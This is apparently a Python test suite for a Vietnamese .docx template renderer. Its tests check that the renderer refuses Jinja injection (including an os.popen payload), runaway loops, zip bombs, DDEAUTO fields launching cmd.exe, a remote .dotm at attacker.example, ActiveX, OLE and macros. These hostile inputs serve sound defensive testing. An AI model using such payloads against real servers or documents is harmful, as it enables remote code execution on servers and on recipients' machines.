"""core.documents: a .docx template (docxtpl) rendered with a context; what is wrong with a
template said in Vietnamese, with the Jinja error and where it is."""

import ctypes
import io
import os
import resource
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from docx import Document

from cchc.core import documents
from cchc.core.documents import BodyFragment, DocumentTemplateError, render_docx
from tests.docx_parts import edit


def template(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def texts(data: bytes) -> list[str]:
    return [p.text for p in Document(io.BytesIO(data)).paragraphs]


def test_values_loops_and_line_breaks_are_rendered():
    data = render_docx(
        template(
            "Kính gửi: {{ whom }}",
            "{%p for line in lines %}",
            "- {{ line }};",
            "{%p endfor %}",
            "{{ signature }}",
        ),
        {"whom": "Sở Nội vụ", "lines": ["Một", "Hai"], "signature": "KT. GIÁM ĐỐC\nPHÓ GIÁM ĐỐC"},
    )
    assert texts(data) == ["Kính gửi: Sở Nội vụ", "- Một;", "- Hai;", "KT. GIÁM ĐỐC\nPHÓ GIÁM ĐỐC"]


def test_text_is_escaped_and_a_fragment_is_inserted_as_it_is():
    part = Document()
    part.element.body.clear_content()
    part.add_paragraph("Đoạn chèn")
    part.add_table(rows=1, cols=2).cell(0, 1).text = "ô bảng"
    data = render_docx(
        template("{{ risky }}", "{{p part }}"),
        {"risky": "A < B & C > D", "part": BodyFragment(part)},
    )
    document = Document(io.BytesIO(data))
    assert [p.text for p in document.paragraphs] == ["A < B & C > D", "Đoạn chèn"]
    assert document.tables[0].cell(0, 1).text == "ô bảng"


def test_a_syntax_error_is_named_with_its_place_in_vietnamese():
    with pytest.raises(DocumentTemplateError) as caught:
        render_docx(template("Mở đầu", "Ký tên {{ signer_name }"), {"signer_name": "A"})
    message = str(caught.value)
    assert message.startswith("Mẫu văn bản không dùng được")
    assert "sai cú pháp Jinja" in message and "unexpected '}'" in message
    assert "dấu ngoặc của một trường không khớp" in message
    assert "gần chữ “Ký tên {{ signer_name }”" in message
    assert "đoạn văn thứ 2" in message


def test_an_unknown_name_is_an_error_not_a_blank():
    with pytest.raises(DocumentTemplateError, match="dùng tên “ten_nguoi_ky”"):
        render_docx(template("{{ ten_nguoi_ky }}"), {"signer_name": "A"})


def test_an_unclosed_loop_is_refused():
    with pytest.raises(DocumentTemplateError, match="sai cú pháp Jinja") as caught:
        render_docx(template("{%p for x in xs %}", "{{ x }}"), {"xs": [1]})
    assert "khối “{% for … %}” chưa được đóng bằng “{% endfor %}”" in str(caught.value)


def test_a_misspelt_tag_is_named():
    with pytest.raises(DocumentTemplateError, match="không có thẻ “endfo”"):
        render_docx(template("{%p for x in xs %}", "{{ x }}", "{%p endfo %}"), {"xs": [1]})


@pytest.mark.parametrize("content", [b"", b"not a word file", b"PK\x03\x04broken zip"])
def test_what_is_not_a_docx_is_refused(content):
    with pytest.raises(DocumentTemplateError, match="Word"):
        render_docx(content, {})


def test_names_outside_the_context_are_found_in_branches_the_data_does_not_take():
    from cchc.core.documents import check_names

    content = template("{{ a }}", "{%p if not a %}", "{{ b }}", "{%p endif %}")
    assert render_docx(content, {"a": "x"})  # the data never reaches `b`
    with pytest.raises(DocumentTemplateError, match="dùng tên “b”"):
        check_names(content, {"a": "x"})
    check_names(content, {"a": "x", "b": "y"})


def test_a_control_character_in_a_value_is_dropped_not_left_to_break_the_document():
    data = render_docx(
        template("{{ pasted }}", "{% for line in lines %}{{ line }}{% endfor %}", "{{ risky }}"),
        {"pasted": "Dòng một\x0bdòng hai\x01 hết\ufffe.", "lines": ["a\x00", ("b\x1f",)],
         "risky": "A < B & C > D"},
    )  # fmt: skip
    assert texts(data) == ["Dòng một\ndòng hai hết.", "a('b',)", "A < B & C > D"]


@pytest.mark.parametrize(
    "expression",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ whom.__class__.__mro__[1].__subclasses__() }}",
    ],
)
def test_a_template_cannot_reach_python_s_internals(expression, tmp_path):
    """A template is a document, not code: in a plain Jinja environment the second one ran a
    shell command on the server at upload, and at every report made from it."""
    with pytest.raises(DocumentTemplateError, match="Mẫu văn bản không dùng được") as refused:
        render_docx(template("Kính gửi: {{ whom }}", expression), {"whom": "Sở Nội vụ"})
    assert "popen" not in str(refused.value) and "__" not in str(refused.value)


def test_a_huge_loop_is_refused_at_once():
    with pytest.raises(DocumentTemplateError, match="vòng lặp hoặc con số quá lớn"):
        render_docx(template("{% for i in range(10**9) %}{% endfor %}"), {})


def test_loops_inside_loops_are_stopped_by_time_and_by_memory(monkeypatch):
    """Each `range` is held to 100.000, but one inside another is 10 billion turns, and a
    server thread cannot be stopped from outside: the template renders in a child process,
    stopped at the time limit or refused at the memory limit; the server process goes on."""
    limit_before = resource.getrlimit(resource.RLIMIT_AS)
    monkeypatch.setattr(documents, "RENDER_SECONDS", 2)
    endless = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    with pytest.raises(DocumentTemplateError, match="mất quá 2 giây và đã bị dừng"):
        render_docx(template(endless), {})
    monkeypatch.setattr(documents, "RENDER_SECONDS", 60)
    monkeypatch.setattr(documents, "RENDER_MEMORY", 256 * 2**20)
    monkeypatch.setattr(documents, "UNPACKED_MAX", 2**40)  # the output's own limit aside
    huge = "{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}"  # 10 GB of text
    with pytest.raises(DocumentTemplateError, match="vượt giới hạn bộ nhớ"):
        render_docx(template(huge), {})
    assert resource.getrlimit(resource.RLIMIT_AS) == limit_before
    assert texts(render_docx(template("Kính gửi: {{ whom }}"), {"whom": "Sở Nội vụ"})) == [
        "Kính gửi: Sở Nội vụ"
    ]


def test_an_expression_that_fails_is_a_template_error_not_a_crash():
    with pytest.raises(DocumentTemplateError, match=r"một biểu thức trong mẫu bị lỗi .*chia cho 0"):
        render_docx(template("{{ 1 // 0 }}"), {})


def test_a_template_too_large_unpacked_or_with_macros_is_refused():
    def with_part(name: str, data: bytes) -> bytes:
        buffer = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(template("Chữ")), "r") as source,
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
        ):
            for item in source.infolist():
                target.writestr(item, source.read(item.filename))
            target.writestr(name, data)
        return buffer.getvalue()

    bomb = with_part("word/media/padding.bin", b"\0" * (65 * 1024 * 1024))
    assert len(bomb) < 1024 * 1024  # small as uploaded
    with pytest.raises(DocumentTemplateError, match="khi giải nén lớn hơn 64 MB"):
        render_docx(bomb, {})
    with pytest.raises(DocumentTemplateError, match="có macro"):
        render_docx(with_part("word/vbaProject.bin", b"macro"), {})


# --- the render's child process ends on its own --------------------------------------------

ENDLESS = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"


def _children(pid: int) -> list[int]:
    children = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            if int(stat.rpartition(")")[2].split()[1]) == pid:
                children.append(int(entry.name))
    return children


def _running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")  # a zombie is dead, only not yet reaped


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc, PR_SET_PDEATHSIG")
def test_a_render_dies_with_the_process_that_started_it(tmp_path):
    """gunicorn kills a worker past its timeout (SIGKILL in the end): the render it had
    forked went on for hours as an orphan, ignoring SIGTERM. Linux now kills it with its
    parent."""
    path = tmp_path / "endless.docx"
    path.write_bytes(template(ENDLESS))
    script = (
        "import sys\n"
        "from pathlib import Path\n"
        "from cchc.core import documents\n"
        "documents.RENDER_SECONDS = 600\n"
        "documents.render_docx(Path(sys.argv[1]).read_bytes(), {})\n"
    )
    source = Path(documents.__file__).resolve().parents[2]  # src/, as imported here
    environment = {**os.environ, "PYTHONPATH": str(source)}
    command = [sys.executable, "-c", script, str(path)]
    server = subprocess.Popen(command, env=environment)  # noqa: S603 - our own script
    render = None
    try:
        deadline = time.monotonic() + 30
        while render is None and time.monotonic() < deadline:
            assert server.poll() is None, "the render's parent ended by itself"
            render = next(iter(_children(server.pid)), None)
            time.sleep(0.05)
        assert render is not None, "no render child was started"
        time.sleep(0.3)  # well into the loops
        server.kill()
        server.wait()
        deadline = time.monotonic() + 5
        while _running(render) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not _running(render), "the render outlived its parent"
    finally:
        if server.poll() is None:
            server.kill()
            server.wait()
        if render is not None and _running(render):
            os.kill(render, signal.SIGKILL)


class Probe:
    """Rendered (by autoescape's `__html__`) in the child: its SIGTERM handling, its CPU time
    limit and the signal it gets when its parent dies."""

    def __html__(self) -> str:
        deathsig = ctypes.c_int(0)
        ctypes.CDLL(None).prctl(2, ctypes.byref(deathsig), 0, 0, 0)  # PR_GET_PDEATHSIG
        default = signal.getsignal(signal.SIGTERM) == signal.SIG_DFL
        soft, hard = resource.getrlimit(resource.RLIMIT_CPU)
        return f"SIGTERM mặc định: {default}, CPU: {soft}/{hard} s, khi cha chết: {deathsig.value}"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="prctl, RLIMIT_CPU")
def test_the_render_obeys_sigterm_and_holds_a_cpu_time_limit(monkeypatch):
    """A gunicorn worker handles SIGTERM itself (to end its request): the forked render
    inherited the handler and could only be stopped by SIGKILL."""
    monkeypatch.setattr(documents, "RENDER_SECONDS", 2)
    cpu_before = resource.getrlimit(resource.RLIMIT_CPU)
    previous = signal.signal(signal.SIGTERM, lambda number, frame: None)  # as gunicorn does
    try:
        data = render_docx(template("{{ probe }}"), {"probe": Probe()})
    finally:
        signal.signal(signal.SIGTERM, previous)
    assert texts(data) == [
        f"SIGTERM mặc định: True, CPU: 3/4 s, khi cha chết: {int(signal.SIGKILL)}"
    ]
    assert resource.getrlimit(resource.RLIMIT_CPU) == cpu_before  # the server's are untouched


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="fork")
def test_a_render_whose_parent_is_already_gone_ends_at_once():
    child = documents._FORK.Process(target=documents.prepare_child, args=(os.getpid() + 10**7,))
    child.start()
    child.join(timeout=10)
    assert child.exitcode == 1


def test_the_render_limit_is_below_gunicorn_s_default_timeout():
    assert documents.RENDER_SECONDS <= 20  # gunicorn: 30 s, README's `gunicorn config.wsgi`


# --- what a template renders stays bounded, and out of the server process ------------------


def test_what_a_template_renders_is_held_to_the_unpacked_limit(monkeypatch):
    """A 39 KB template wrote a million paragraphs (34 MB of XML, zipped to 144 KB), parsed
    again and again in the server process: 1,7 GB. What it writes is counted as it is
    written, and the document is checked unpacked."""
    monkeypatch.setattr(documents, "UNPACKED_MAX", 1024 * 1024)
    loop = template("{%p for i in range(400) %}", *["x"] * 100, "{%p endfor %}")
    assert len(loop) < 64 * 1024
    with pytest.raises(DocumentTemplateError) as refused:
        render_docx(loop, {})
    assert str(refused.value) == (
        "Mẫu văn bản không dùng được: văn bản tạo từ mẫu khi giải nén lớn hơn 1 MB (một vòng "
        "lặp trong mẫu lặp lại quá nhiều nội dung?)."
    )
    # 150.000 letters of 3 bytes each: under the count of characters, over the bytes unpacked
    with pytest.raises(DocumentTemplateError, match="văn bản tạo từ mẫu khi giải nén lớn hơn 1"):
        render_docx(template("{{ text }}"), {"text": "ệ" * 150_000})
    assert texts(render_docx(template("{{ text }}"), {"text": "ệ" * 10})) == ["ệ" * 10]


def test_what_is_done_with_the_result_is_done_in_the_child():
    def finish(data: bytes) -> bytes:
        return f"{os.getpid()} {len(Document(io.BytesIO(data)).paragraphs)}".encode()

    pid, paragraphs = render_docx(template("{{ a }}"), {"a": "x"}, finish=finish).split()
    assert int(pid) != os.getpid() and paragraphs == b"1"

    def broken(data: bytes) -> bytes:
        raise ValueError("file is not a Word file")

    with pytest.raises(DocumentTemplateError, match="văn bản tạo từ mẫu bị hỏng, Word không mở"):
        render_docx(template("{{ a }}"), {"a": "x"}, finish=broken)


def test_all_names_checks_the_branches_in_the_same_render():
    content = template("{{ a }}", "{%p if not a %}", "{{ b }}", "{%p endif %}")
    assert render_docx(content, {"a": "x"})
    with pytest.raises(DocumentTemplateError, match="dùng tên “b”"):
        render_docx(content, {"a": "x"}, all_names=True)


# --- active content: what Word would run or fetch ------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_runs(runs: str, *paragraphs: str) -> bytes:
    """A template whose paragraph "MARK" is replaced by these runs (raw WordprocessingML)."""
    return edit(
        template("MARK", *paragraphs),
        {
            "word/document.xml": lambda xml: xml.replace(
                b"<w:r><w:t>MARK</w:t></w:r>", runs.encode()
            )
        },
    )


def field(*instructions: str) -> str:
    """A complex field whose instruction is split over runs as Word does."""
    parts = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instructions
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{parts}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def relationship(part: str, kind: str, target: str, external: bool = True):
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rIdX1" Type="{kind}" Target="{target}"{mode}/>'.encode()
    return {part: lambda xml: xml.replace(b"</Relationships>", entry + b"</Relationships>")}


def attached_template(xml: bytes) -> bytes:
    return xml.replace(b"<w:zoom ", b'<w:attachedTemplate r:id="rIdX1"/><w:zoom ', 1)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            with_runs(field(" DD", 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
            "Tệp mẫu có trường DDEAUTO (word/document.xml: “DDEAUTO c:\\\\windows",
        ),
        (with_runs(field(" dde excel ")), "Tệp mẫu có trường DDE ("),
        (
            with_runs(
                '<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\host\\\\a.docx&quot; ">'
                "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
            ),
            "Tệp mẫu có trường INCLUDETEXT",
        ),
        (with_runs(field(' includePicture "http://x.example/a.png" \\d ')), "INCLUDEPICTURE"),
        (
            edit(
                template("Chữ"),
                {"word/settings.xml": attached_template},
                {
                    "word/_rels/settings.xml.rels": (
                        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                        f'relationships"><Relationship Id="rIdX1" Type="{RELATIONSHIPS}/'
                        'attachedTemplate" Target="http://attacker.example/payload.dotm" '
                        'TargetMode="External"/></Relationships>'
                    )
                },
            ),
            "Tệp mẫu gắn với một mẫu Word khác (http://attacker.example/payload.dotm)",
        ),
        (
            edit(
                template("Chữ"),
                relationship(
                    "word/_rels/document.xml.rels",
                    f"{RELATIONSHIPS}/image",
                    "http://tracker.example/p.png",
                ),
            ),
            "Tệp mẫu có nội dung liên kết tới một nguồn bên ngoài (http://tracker.example/p.png)",
        ),
        (
            edit(template("Chữ"), extra={"word/activeX/activeX1.xml": b"<ax/>"}),
            "Tệp mẫu có điều khiển ActiveX (word/activeX/activeX1.xml)",
        ),
        (
            edit(
                template("Chữ"),
                relationship(
                    "word/_rels/document.xml.rels",
                    f"{RELATIONSHIPS}/control",
                    "activeX/activeX1.xml",
                    external=False,
                ),
            ),
            "Tệp mẫu có điều khiển ActiveX",
        ),
        (
            edit(template("Chữ"), extra={"word/embeddings/oleObject1.bin": b"ole"}),
            "Tệp mẫu có đối tượng nhúng (OLE) (word/embeddings/oleObject1.bin)",
        ),
        (
            edit(
                template("Chữ"),
                {
                    "[Content_Types].xml": lambda xml: xml.replace(
                        b"</Types>",
                        b'<Override PartName="/word/vbaData.xml" ContentType='
                        b'"application/vnd.ms-word.vbaData+xml"/></Types>',
                    )
                },
            ),
            "Tệp mẫu có macro (VBA) (application/vnd.ms-word.vbaData+xml)",
        ),
    ],
    ids=[
        "ddeauto-split",
        "dde",
        "includetext",
        "includepicture",
        "attached-template",
        "external-image",
        "activex-part",
        "activex-relationship",
        "ole",
        "vba-content-type",
    ],
)
def test_active_content_is_refused_with_what_was_found(content, message):
    """Word runs or fetches these when it opens a document: a remote .dotm's macros, DDE's
    command, a file pulled in. The "no macros" check let them all through, into every
    agency's documents made from the template."""
    with pytest.raises(DocumentTemplateError) as refused:
        render_docx(content, {})
    assert message in str(refused.value)
    assert "lưu lại mẫu" in str(refused.value)


def test_fields_hyperlinks_and_internal_parts_word_writes_itself_pass():
    page = with_runs(field(" PAGE ") + field(" HYPERLINK ", '"http://hanhchinhcong.example/" '))
    link = edit(page, relationship("word/_rels/document.xml.rels", f"{RELATIONSHIPS}/hyperlink",
                                   "http://hanhchinhcong.example/"))  # fmt: skip
    assert texts(render_docx(link, {})) == ["11"]


def test_a_field_the_template_writes_into_its_output_is_refused():
    """A field instruction may itself be Jinja: the template passes, what it renders not."""
    content = with_runs(field(" {{ command }} cmd.exe "))
    with pytest.raises(DocumentTemplateError, match="Văn bản tạo từ mẫu có trường DDEAUTO"):
        render_docx(content, {"command": "DDEAUTO"})
    assert texts(render_docx(content, {"command": "PAGE"})) == ["1"]
